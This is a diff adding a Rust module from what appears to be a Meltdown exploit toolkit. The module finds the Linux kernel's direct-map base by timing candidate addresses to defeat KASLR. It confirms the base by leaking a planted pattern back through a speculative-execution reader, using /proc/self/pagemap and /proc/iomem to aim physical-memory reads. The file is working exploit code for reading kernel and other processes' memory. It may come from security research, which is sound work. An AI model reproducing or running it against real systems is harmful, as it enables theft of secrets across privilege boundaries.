@@ -0,0 +1,245 @@
+//! Finding `page_offset_base`, where the kernel's direct map of all physical
+//! memory starts, so physical addresses can be leaked through it.
+//!
+//! Timing every slot the direct map could start at, as `kaslr` does, narrows
+//! it down to a few candidates. Each one is then confirmed by planting a
+//! random pattern in a page of this process, looking up the page's physical
+//! address in `/proc/self/pagemap`, and leaking the pattern back through the
+//! candidate. Physical addresses are hidden without `CAP_SYS_ADMIN`, and then
+//! the lowest candidate is the best guess there is.
+//!
+//! Not everything in the physical address space is memory. Device registers
+//! are mapped in it too, and reading those can hang the machine or change
+//! the device's state, so `system_ram` gives the ranges `/proc/iomem` lists
+//! as RAM, for physical reads to stay inside.
+
+use libc;
+use std::fs::File;
+use std::io::{self, Read};
+use std::ops::Range;
+use std::ptr;
+
+use cache::slices::Pagemap;
+use kaslr::{self, Locator};
+use reader::MeltdownReader;
+use rng::Rng;
+use suppress::ExceptionSuppressor;
+use PAGE_SIZE;
+
+/// How many bytes of the planted pattern are leaked back per candidate.
+pub const PATTERN_LEN: usize = 16;
+
+// how many of them have to come back right. a few bytes are lost to noise
+// even through the right base
+const PATTERN_MATCHES: usize = PATTERN_LEN * 3 / 4;
+
+/// Where the direct map starts, and how sure that is.
+#[derive(Copy, Clone, Debug, PartialEq, Eq)]
+pub enum DirectMap {
+    /// The planted pattern leaked back through this base.
+    Confirmed(usize),
+    /// The lowest candidate, unconfirmed because physical addresses are
+    /// hidden.
+    Guessed(usize),
+}
+
+impl DirectMap {
+    /// The base, however sure it is.
+    pub fn base(&self) -> usize {
+        match *self {
+            DirectMap::Confirmed(base) | DirectMap::Guessed(base) => base,
+        }
+    }
+}
+
+/// How many bytes of the planted pattern `self_test` leaks back.
+pub const SELF_TEST_LEN: usize = 64;
+
+/// What came back of a pattern leaked through the direct map.
+#[derive(Copy, Clone, Debug, PartialEq, Eq)]
+pub struct SelfTest {
+    /// Where the pattern is in physical memory.
+    pub physical: usize,
+    /// How many bytes of it leaked correctly.
+    pub matches: usize,
+    pub len: usize,
+}
+
+// a locked page of this process holding a random pattern at its start
+struct PlantedPage {
+    page: *mut u8,
+    len: usize,
+}
+
+impl PlantedPage {
+    fn new(len: usize) -> io::Result<PlantedPage> {
+        unsafe {
+            let page = libc::mmap(
+                ptr::null_mut(),
+                PAGE_SIZE,
+                libc::PROT_READ | libc::PROT_WRITE,
+                libc::MAP_PRIVATE | libc::MAP_ANONYMOUS | libc::MAP_POPULATE,
+                -1,
+                0,
+            );
+            if page == libc::MAP_FAILED {
+                return Err(io::Error::last_os_error());
+            }
+            let planted = PlantedPage {
+                page: page as *mut u8,
+                len,
+            };
+            // an unlocked page could be swapped out and come back in another
+            // frame while the candidates are tried. without the limit to lock
+            // it, that's unlikely enough to go ahead anyway
+            libc::mlock(page, PAGE_SIZE);
+            let mut rng = Rng::from_tsc();
+            for i in 0..len {
+                planted.page.add(i).write_volatile(rng.next_u64() as u8)
+            }
+            Ok(planted)
+        }
+    }
+
+    fn pattern(&self) -> &[u8] {
+        unsafe { ::std::slice::from_raw_parts(self.page, self.len) }
+    }
+
+    // leaks the pattern back through the direct map at base, given the
+    // page's physical address, and counts the bytes that came back right
+    fn leak<S: ExceptionSuppressor>(
+        &self,
+        reader: &MeltdownReader<S>,
+        base: usize,
+        physical: usize,
+    ) -> usize {
+        // data in L1 leaks most reliably
+        unsafe { self.page.read_volatile() };
+        reader
+            .read_range((base + physical) as *const u8, self.len)
+            .iter()
+            .zip(self.pattern())
+            .filter(|&(&leaked, &planted)| leaked == Some(planted))
+            .count()
+    }
+}
+
+impl Drop for PlantedPage {
+    fn drop(&mut self) {
+        unsafe {
+            libc::munmap(self.page as *mut libc::c_void, PAGE_SIZE);
+        }
+    }
+}
+
+/// The total size of RAM. Holes below 4 GiB, where devices are mapped, put
+/// the top of physical memory above this on most machines.
+pub fn memory_size() -> usize {
+    let pages = unsafe { libc::sysconf(libc::_SC_PHYS_PAGES) };
+    if pages < 0 {
+        0
+    } else {
+        pages as usize * PAGE_SIZE
+    }
+}
+
+// parses a line of /proc/iomem, like `00100000-bffdffff : System RAM`, into
+// its range, made half open, and its name. None for nested entries, which
+// are indented, and anything that doesn't parse
+fn parse_iomem_line(line: &str) -> Option<(Range<usize>, &str)> {
+    if line.starts_with(' ') {
+        return None;
+    }
+    let mut fields = line.splitn(2, " : ");
+    let mut bounds = fields.next()?.splitn(2, '-');
+    let name = fields.next()?;
+    let start = usize::from_str_radix(bounds.next()?, 16).ok()?;
+    let end = usize::from_str_radix(bounds.next()?, 16).ok()?;
+    Some((start..end + 1, name))
+}
+
+/// The ranges of physical memory `/proc/iomem` lists as System RAM, in
+/// order. Fails if the addresses are hidden, as they are without root.
+pub fn system_ram() -> io::Result<Vec<Range<usize>>> {
+    let mut iomem = String::new();
+    File::open("/proc/iomem")?.read_to_string(&mut iomem)?;
+    let entries: Vec<_> = iomem.lines().filter_map(parse_iomem_line).collect();
+    if entries.iter().all(|&(ref range, _)| range.start == 0) {
+        return Err(io::Error::new(
+            io::ErrorKind::PermissionDenied,
+            "/proc/iomem only shows addresses to root",
+        ));
+    }
+    Ok(entries
+        .into_iter()
+        .filter(|&(_, name)| name == "System RAM")
+        .map(|(range, _)| range)
+        .collect())
+}
+
+/// The first address of `range` that none of `ram` covers, if any. `ram`
+/// has to be in order, as `system_ram` returns it.
+pub fn first_outside(ram: &[Range<usize>], range: Range<usize>) -> Option<usize> {
+    let mut addr = range.start;
+    for covered in ram {
+        if addr >= range.end {
+            break;
+        }
+        if covered.start <= addr && addr < covered.end {
+            addr = covered.end
+        }
+    }
+    if addr < range.end {
+        Some(addr)
+    } else {
+        None
+    }
+}
+
+/// The slots of the direct map's window that look mapped to `locator`,
+/// timing each `tries` times, lowest first.
+pub fn candidates(locator: Locator, tries: usize) -> io::Result<Vec<usize>> {
+    Ok(locator.scan(kaslr::DIRECT_MAP, tries)?.mapped())
+}
+
+/// Tries each of `candidates` in turn with `reader`, and returns the first
+/// one the planted pattern leaks back through. Without access to physical
+/// addresses, returns the lowest candidate as a guess. None if there are no
+/// candidates, or none of them leaks the pattern.
+pub fn find<S: ExceptionSuppressor>(
+    reader: &MeltdownReader<S>,
+    candidates: &[usize],
+) -> io::Result<Option<DirectMap>> {
+    let planted = PlantedPage::new(PATTERN_LEN)?;
+    let physical = match Pagemap::open()?.physical_address(planted.page) {
+        Ok(physical) => physical as usize,
+        Err(ref e) if e.kind() == io::ErrorKind::PermissionDenied => {
+            return Ok(candidates.iter().min().map(|&base| DirectMap::Guessed(base)))
+        }
+        Err(e) => return Err(e),
+    };
+    for &base in candidates {
+        if planted.leak(reader, base, physical) >= PATTERN_MATCHES {
+            return Ok(Some(DirectMap::Confirmed(base)));
+        }
+    }
+    Ok(None)
+}
+
+/// Plants a pattern in a page of this process, translates the page's
+/// address with `/proc/self/pagemap`, and leaks the pattern back through the
+/// direct map at `base`. That tests every step of a physical read against
+/// known data. Fails without `CAP_SYS_ADMIN`, which pagemap needs to show
+/// physical addresses.
+pub fn self_test<S: ExceptionSuppressor>(
+    reader: &MeltdownReader<S>,
+    base: usize,
+) -> io::Result<SelfTest> {
+    let planted = PlantedPage::new(SELF_TEST_LEN)?;
+    let physical = Pagemap::open()?.physical_address(planted.page)? as usize;
+    Ok(SelfTest {
+        physical,
+        matches: planted.leak(reader, base, physical),
+        len: SELF_TEST_LEN,
+    })
+}